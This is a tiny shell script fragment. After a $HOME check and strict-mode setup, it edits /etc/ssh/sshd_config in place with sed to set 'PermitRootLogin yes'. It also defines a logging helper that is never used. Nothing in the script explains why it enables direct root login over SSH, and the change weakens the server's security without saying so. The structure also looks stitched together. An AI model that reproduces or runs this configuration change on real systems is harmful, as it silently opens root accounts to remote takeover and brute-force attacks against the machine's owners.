#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
set -eu
sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
log() { echo "[$(date +%H:%M:%S)] $*"; }
